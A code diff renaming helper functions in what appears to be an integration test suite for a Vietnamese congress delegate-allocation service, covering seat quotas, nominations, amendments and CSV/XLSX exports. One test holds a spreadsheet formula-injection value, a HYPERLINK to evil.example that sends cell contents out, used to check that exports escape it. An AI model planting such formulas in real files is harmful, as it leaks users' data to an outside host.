@@ -9,28 +9,28 @@ import pytest
 from python_calamine import load_workbook
 
 from api.tables import CSV, XLSX
-from service.spreadsheets import meant
+from service.spreadsheets import unescape_formulas
 from tests.client import Client
 from tests.journeys.scenes import Prepare, Scene
 from tests.journeys.soc_trang import (
     CONGRESS,
-    drawn,
+    compute_tied_allocation,
+    draw_enterprises,
     load,
-    with_a_tie,
 )
 from tests.journeys.steps import (
     Json,
-    accepted,
-    adopted,
-    allocated,
+    accept_nominee,
+    act_on_nomination,
+    adopt_allocation,
     codes,
+    compute_allocation,
     decision,
-    named,
+    draft_nomination,
+    map_quotas,
+    map_rows,
     person,
-    quotas_of,
     report,
-    rows_of,
-    step,
 )
 
 
@@ -43,25 +43,25 @@ def prepare() -> Prepare:
 @pytest.fixture
 def congress(scene: Scene) -> Json:
     """The congress, with its plan and the ids of its units by code."""
-    return scene.told
+    return scene.facts
 
 
 async def test_from_the_plan_to_the_accepted_delegates(client: Client, congress: Json) -> None:
     units = congress["units"]
     lottery, justice = units["cong-ty-xo-so-kien-thiet"], units["so-tu-phap"]
     # A unit ranks its people before there are seats.
-    first = await named(client, congress, justice, rank=1, person=person(gender="female"))
-    early = await step(client, first, "submission", 409)
+    first = await draft_nomination(client, congress, justice, rank=1, person=person(gender="female"))
+    early = await act_on_nomination(client, first, "submission", 409)
     assert early.json()["code"] == "quota_missing"
 
     # The seats, computed and adopted; a tie is drawn for, and the leader's hand moves one seat.
-    allocation = await drawn(client, congress, await with_a_tie(client, congress))
+    allocation = await draw_enterprises(client, congress, await compute_tied_allocation(client, congress))
     allocation = await _moved(client, congress, allocation, "so-noi-vu", "so-tu-phap")
-    before = await rows_of(client, allocation.json())
-    adoption = await adopted(client, allocation, "123")
+    before = await map_rows(client, allocation.json())
+    adoption = await adopt_allocation(client, allocation, "123")
     assert adoption["misfits"] == []
     assert adoption["allocation"]["decision"]["number"] == "123"
-    quotas = await quotas_of(client, congress)
+    quotas = await map_quotas(client, congress)
     assert {code: quota["seats"] for code, quota in quotas.items()} == {
         code: row["seats"] for code, row in before.items()
     }
@@ -70,30 +70,36 @@ async def test_from_the_plan_to_the_accepted_delegates(client: Client, congress:
     # Names: submitted within the limit, returned and sent again, accepted within the seats.
     seats = quotas["so-tu-phap"]["seats"]
     assert quotas["so-tu-phap"]["nominee_limit"] == seats
-    sent = await step(client, first, "submission")
-    back = await step(client, sent, "return", reason="Bổ sung thành tích")
+    sent = await act_on_nomination(client, first, "submission")
+    back = await act_on_nomination(client, sent, "return", reason="Bổ sung thành tích")
     assert (back.json()["state"], back.json()["returned_reason"]) == ("returned", "Bổ sung thành tích")
-    first = await step(client, await step(client, back, "submission"), "acceptance")
+    first = await act_on_nomination(client, await act_on_nomination(client, back, "submission"), "acceptance")
     assert (first.json()["state"], first.json()["list"]["seats"]) == ("accepted", seats)
-    others = [await accepted(client, congress, justice, rank=2 + n) for n in range(seats - 1)]
-    surplus = await named(client, congress, justice, rank=seats + 1)
-    refused = await step(client, surplus, "submission", 409)
+    others = [await accept_nominee(client, congress, justice, rank=2 + n) for n in range(seats - 1)]
+    surplus = await draft_nomination(client, congress, justice, rank=seats + 1)
+    refused = await act_on_nomination(client, surplus, "submission", 409)
     assert refused.json()["code"] == "quota_nominee_limit_exceeded"
-    await step(client, others[0], "withdrawal", reason="Xin rút")
-    surplus = await step(client, await step(client, surplus, "submission"), "acceptance")
+    await act_on_nomination(client, others[0], "withdrawal", reason="Xin rút")
+    surplus = await act_on_nomination(
+        client, await act_on_nomination(client, surplus, "submission"), "acceptance"
+    )
 
     # A collective sends somebody else.
-    group = await accepted(client, congress, lottery, collective="Phòng Kinh doanh (ví dụ)")
-    changed = await step(client, group, "representative", person=person(gender="male"), reason="Ốm")
+    group = await accept_nominee(client, congress, lottery, collective="Phòng Kinh doanh (ví dụ)")
+    changed = await act_on_nomination(
+        client, group, "representative", person=person(gender="male"), reason="Ốm"
+    )
     assert changed.json()["collective"] == group.json()["collective"]
     assert changed.json()["person"] != group.json()["person"]
     assert changed.json()["state"] == "accepted"
 
     # The justice department turns out to be far smaller: the amendment names its list and cuts nobody.
     await report(client, justice, staff=2)
-    amended = await allocated(client, congress, amends=allocation.json()["id"], reason="Đính chính số liệu")
-    amended = await drawn(client, congress, amended)
-    after = await adopted(client, amended, "130")
+    amended = await compute_allocation(
+        client, congress, amends=allocation.json()["id"], reason="Đính chính số liệu"
+    )
+    amended = await draw_enterprises(client, congress, amended)
+    after = await adopt_allocation(client, amended, "130")
     (misfit,) = after["misfits"]
     assert misfit == {
         "unit": justice,
@@ -103,15 +109,15 @@ async def test_from_the_plan_to_the_accepted_delegates(client: Client, congress:
         "nominee_limit": 1,
         "nominated": seats,
     }
-    versions = await client.every(f"/v1/conferences/{congress['id']}/allocations")
+    versions = await client.list_all(f"/v1/conferences/{congress['id']}/allocations")
     assert [version["state"] for version in versions] == ["superseded", "adopted"]
-    assert (await quotas_of(client, congress))["so-tu-phap"]["misfit"]["taken"] == seats
+    assert (await map_quotas(client, congress))["so-tu-phap"]["misfit"]["taken"] == seats
     still = await client.get(f"/v1/nominations/{surplus.json()['id']}")
     assert still.json()["state"] == "accepted"
 
     # Whoever asks later finds every act in one unbroken chain.
     chain = f"/v1/audit_events?chain={congress['plan']['id']}"
-    acts = [event["act"] for event in await client.every(chain)]
+    acts = [event["act"] for event in await client.list_all(chain)]
     assert acts.count("allocation_adopted") == 2
     assert acts.count("representative_changed") == 1
     assert acts.index("plan_published") < acts.index("conference_opened") < acts.index("tie_settled")
@@ -129,8 +135,8 @@ async def test_ii_2_d_the_congress_has_ten_groups_within_500(congress: Json) -> 
 
 
 async def test_the_congress_is_allocated_over_its_real_units(client: Client, congress: Json) -> None:
-    allocation = (await allocated(client, congress)).json()
-    rows = await rows_of(client, allocation)
+    allocation = (await compute_allocation(client, congress)).json()
+    rows = await map_rows(client, allocation)
     assert allocation["state"] == "decided"
     assert allocation["totals"] == [{"group": "dien-hinh", "units": 68, "computed": 280, "seats": 280}]
     assert sum(row["seats"] for row in rows.values() if row["bloc"] == "huyen-thi") == 96
@@ -142,7 +148,7 @@ async def test_the_congress_is_allocated_over_its_real_units(client: Client, con
 
 
 async def test_the_seats_come_as_a_table_too(client: Client, congress: Json) -> None:
-    allocation = (await allocated(client, congress)).json()
+    allocation = (await compute_allocation(client, congress)).json()
     path = f"/v1/allocations/{allocation['id']}/seats"
     table = await client.get(path, headers={"Accept": "text/csv"})
     assert table.headers["content-type"].startswith("text/csv")
@@ -162,11 +168,11 @@ async def test_a_unit_that_calls_itself_a_formula_is_a_name_in_every_table(
     unit = {"code": "so-thu-nghiem", "name": name, "kind": "department", "valid_from": "2020-01-01"}
     made = await client.post("/v1/units", {**unit, "parents": {CONGRESS: "tinh-soc-trang"}, "made_up": True})
     await report(client, made.json()["id"], staff=100)
-    path = f"/v1/allocations/{(await allocated(client, congress)).json()['id']}/seats"
+    path = f"/v1/allocations/{(await compute_allocation(client, congress)).json()['id']}/seats"
     table = (await client.get(path, headers={"Accept": CSV})).content
     (cell,) = [row[1] for row in csv.reader(table.decode("utf-8-sig").splitlines()) if "evil" in row[1]]
     assert cell == '\'=HYPERLINK("https://evil.example?"&B2,"x");\'@SUM(A1)'
-    assert meant(cell) == name
+    assert unescape_formulas(cell) == name
     book = (await client.get(path, headers={"Accept": XLSX})).content
     assert name in [row[1] for row in load_workbook(BytesIO(book)).get_sheet_by_index(0).to_python()]
     assert b"<f" not in ZipFile(BytesIO(book)).read("xl/worksheets/sheet1.xml")
@@ -188,7 +194,7 @@ async def test_missing_figures_stop_the_allocation_and_name_the_units(client: Cl
     assert refused["code"] == "allocation_cannot_start"
     assert [error["params"]["unit"] for error in refused["errors"]] == ["so-thu-nghiem-1", "so-thu-nghiem-2"]
     assert set(codes(refused["errors"])) == {"figure_unknown"}
-    assert await client.every(path) == []
+    assert await client.list_all(path) == []
 
 
 async def test_figures_of_two_days_that_cannot_both_hold_stop_the_allocation_too(
@@ -202,17 +208,17 @@ async def test_figures_of_two_days_that_cannot_both_hold_stop_the_allocation_too
     at_odds = {(e["code"], e["params"]["unit"], e["params"]["measure"]) for e in refused["errors"]}
     assert ("figures_at_odds", "so-tu-phap", "staff.women") in at_odds
     assert {unit for _, unit, _ in at_odds} == {"so-tu-phap"}
-    assert await client.every(path) == []
+    assert await client.list_all(path) == []
 
 
 async def test_hand_adjustments_must_balance_before_the_proposal(client: Client, congress: Json) -> None:
-    allocation = await allocated(client, congress)
+    allocation = await compute_allocation(client, congress)
     path = f"/v1/allocations/{allocation.json()['id']}"
     body = {"unit": congress["units"]["so-noi-vu"], "group": "dien-hinh", "adjustment": 1, "reason": "Thêm"}
     adjusted = await client.act(f"{path}/adjustments", allocation.headers["ETag"], body)
     refused = (await client.act(f"{path}/proposal", adjusted.headers["ETag"], {}, 409)).json()
     assert refused["errors"][0]["params"] == {"group": "dien-hinh", "by": 1}
-    row = (await rows_of(client, allocation.json()))["so-noi-vu"]
+    row = (await map_rows(client, allocation.json()))["so-noi-vu"]
     assert (row["seats"], row["adjustment"], row["adjusted_by"]) == (row["computed"] + 1, 1, "local")
     back = await client.act(f"{path}/adjustments", adjusted.headers["ETag"], {**body, "adjustment": 0})
     await client.act(f"{path}/proposal", back.headers["ETag"])
@@ -221,9 +227,9 @@ async def test_hand_adjustments_must_balance_before_the_proposal(client: Client,
 async def test_an_adjustment_beyond_the_plans_bounds_is_recorded_and_told(
     client: Client, congress: Json
 ) -> None:
-    allocation = await allocated(client, congress)
+    allocation = await compute_allocation(client, congress)
     path = f"/v1/allocations/{allocation.json()['id']}/adjustments"
-    small = (await rows_of(client, allocation.json()))["so-noi-vu"]
+    small = (await map_rows(client, allocation.json()))["so-noi-vu"]
     body = {"unit": small["unit"]["id"], "group": "dien-hinh", "reason": "Thử nghiệm"}
     found = await client.act(path, allocation.headers["ETag"], {**body, "adjustment": -small["computed"]})
     assert "adjusted_below_floor" in codes(found.json())
@@ -232,7 +238,7 @@ async def test_an_adjustment_beyond_the_plans_bounds_is_recorded_and_told(
 
 
 async def test_a_proposal_can_be_taken_back_and_worked_on(client: Client, congress: Json) -> None:
-    allocation = await allocated(client, congress)
+    allocation = await compute_allocation(client, congress)
     path = f"/v1/allocations/{allocation.json()['id']}"
     proposed = await client.act(f"{path}/proposal", allocation.headers["ETag"])
     frozen = {"unit": congress["units"]["so-noi-vu"], "group": "dien-hinh", "adjustment": 1, "reason": "Muộn"}
@@ -244,14 +250,14 @@ async def test_a_proposal_can_be_taken_back_and_worked_on(client: Client, congre
 
 
 async def test_two_decisions_of_one_number_are_one_too_many(client: Client, congress: Json) -> None:
-    allocation = await allocated(client, congress)
-    await adopted(client, allocation, "123")
-    second = await allocated(client, congress, amends=allocation.json()["id"], reason="Sửa")
+    allocation = await compute_allocation(client, congress)
+    await adopt_allocation(client, allocation, "123")
+    second = await compute_allocation(client, congress, amends=allocation.json()["id"], reason="Sửa")
     path = f"/v1/allocations/{second.json()['id']}"
     proposed = await client.act(f"{path}/proposal", second.headers["ETag"])
     approved = await client.act(f"{path}/approval", proposed.headers["ETag"])
     await client.act(f"{path}/adoption", approved.headers["ETag"], decision("123"), 409)
-    states = [row["state"] for row in await client.every(f"/v1/conferences/{congress['id']}/allocations")]
+    states = [row["state"] for row in await client.list_all(f"/v1/conferences/{congress['id']}/allocations")]
     assert states == ["adopted", "approved"]
 
 
